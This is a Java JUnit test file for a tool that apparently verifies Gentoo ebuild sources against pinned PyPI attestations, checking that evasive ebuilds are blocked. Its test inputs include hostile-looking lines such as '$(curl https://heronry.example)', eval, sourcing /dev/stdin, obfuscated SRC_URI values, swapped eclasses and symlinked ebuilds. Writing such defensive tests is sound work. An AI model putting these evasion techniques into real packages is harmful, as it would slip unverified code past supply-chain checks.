package io.github.ebuildattest.hook.contributor;

import static io.github.ebuildattest.hook.Sample.HERON;

import io.github.ebuildattest.testkit.overlay.Distfile;
import io.github.ebuildattest.testkit.sigstore.GitHubIdentity;
import io.github.ebuildattest.testkit.sigstore.Identity;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ebuilds that fetch a pinned project's file in ways that are easily overlooked. */
class EvasionTest extends ContributorCase {

  private static final String ELSEWHERE = "app-misc/wader";
  private static final String URI =
      "https://files.pythonhosted.org/packages/source/h/heron-parser/heron_parser-1.5.0.tar.gz";

  private Distfile[] files;

  @BeforeEach
  void upload() throws IOException {
    files = overlay.upload("heron-parser", "1.5.0", null);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SRC_URI=\"" + URI + "\"",
        "H=files.python;"
            + " SRC_URI=\"https://${H}hosted.org/packages/source/h/heron-parser/heron_parser-1.5.0.tar.gz\"",
        "M=mirror; SRC_URI=\"${M}://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz\"",
        "SRC_URI=\"https://example.org/${P}.tar.gz test? ( " + URI + " )\"",
        "SRC_URI=\"" + URI + " -> wader.tar.gz\"",
      })
  void finds_a_pinned_projects_file_in_a_package_without_a_pin(String line) throws IOException {
    overlay.ebuild(ELSEWHERE, "1.5.0", "EAPI=8\n" + line + "\nSLOT=0\n", renamed()).slipIn();

    assertBlocked("attestation-lost");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "inherit pypi\neval 'SRC_URI=https://heronry.example/x.tar.gz'",
        "inherit pypi\nsource \"${FILESDIR}\"/x.sh",
        "inherit pypi\nSRC_URI=\"$(curl https://heronry.example)\"",
        "inherit pypi\nread SRC_URI <<< https://heronry.example/x.tar.gz",
        "inherit pypi\ndeclare -n R=SRC_URI\nR=https://heronry.example/x.tar.gz",
        "[[ -e /etc/passwd ]] && inherit pypi",
        "inherit pypi\nif [[ ${RANDOM} == 7 ]]; then SRC_URI=x; fi",
        "inherit pypi\n. /dev/stdin",
      })
  void refuses_what_it_cannot_know(String lines) throws IOException {
    overlay.ebuild(HERON, "1.5.0", "EAPI=8\n" + lines + "\nSLOT=0\n", files).slipIn();

    assertBlocked("ebuild-not-evaluated");
  }

  @Test
  void a_second_project_does_not_take_the_declared_upstream_from_the_first() throws IOException {
    Identity stranger = GitHubIdentity.releasing("stranger/wader", "700999001", "700999002", "1.0");
    List<Distfile> both = new ArrayList<>(List.of(overlay.upload("wader", "1.0", stranger)));
    both.addAll(List.of(overlay.upload("decoy", "1.0", stranger)));
    String text =
        """
        EAPI=8
        PYPI_VERIFY_REPO=https://github.com/friend/wader
        inherit pypi
        SRC_URI+=" $(pypi_sdist_url decoy 1.0)"
        SLOT=0
        """;
    overlay.ebuild("app-misc/wader", "1.0", text, both.toArray(Distfile[]::new)).slipIn();

    assertBlocked("upstream-mismatch", "first-use");
  }

  @Test
  void refuses_an_inherit_that_cannot_be_told_in_a_package_without_a_pin() throws IOException {
    String lines = "E=pypi\n[[ -e /etc/passwd ]] && inherit ${E}\n";
    overlay.ebuild(ELSEWHERE, "1.5.0", "EAPI=8\n" + lines + "SLOT=0\n", files).slipIn();

    assertBlocked("ebuild-not-evaluated");
  }

  @Test
  void looks_through_the_overlays_own_eclasses() throws IOException {
    overlay
        .write("eclass/wader.eclass", "SRC_URI=\"" + URI + "\"\n")
        .ebuild(ELSEWHERE, "1.5.0", "EAPI=8\ninherit wader\nSLOT=0\n", files)
        .slipIn();

    assertBlockedByAnyOf("attestation-lost", "ebuild-not-evaluated");
  }

  @Test
  void notices_a_change_to_an_eclass_that_unchanged_ebuilds_inherit() throws IOException {
    overlay
        .write("eclass/wader.eclass", "WADERS=many\n")
        .edit(HERON + "/heron-parser-1.4.0.ebuild", "distutils-r1 pypi", "distutils-r1 pypi wader");
    base = overlay.slipIn();
    overlay.write("eclass/wader.eclass", "SRC_URI=\"https://heronry.example/x.tar.gz\"\n").slipIn();

    assertBlockedByAnyOf("source-left-pypi", "ebuild-not-evaluated");
  }

  @Test
  void follows_a_linked_ebuild_to_what_it_says() throws IOException {
    Path target = overlay.file(HERON + "/files/next");
    Files.createDirectories(target.getParent());
    Files.writeString(target, "EAPI=8\nSRC_URI=\"https://heronry.example/${P}.tar.gz\"\nSLOT=0\n");
    Files.createSymbolicLink(
        overlay.file(HERON + "/heron-parser-1.5.0.ebuild"), Path.of("files/next"));
    overlay.slipIn();

    assertBlockedByAnyOf("source-left-pypi", "content-rewritten");
  }

  private Distfile[] renamed() {
    return new Distfile[] {
      files[0],
      new Distfile("wader.tar.gz", files[0].bytes()),
      new Distfile("wader-1.5.0.tar.gz", files[0].bytes())
    };
  }
}
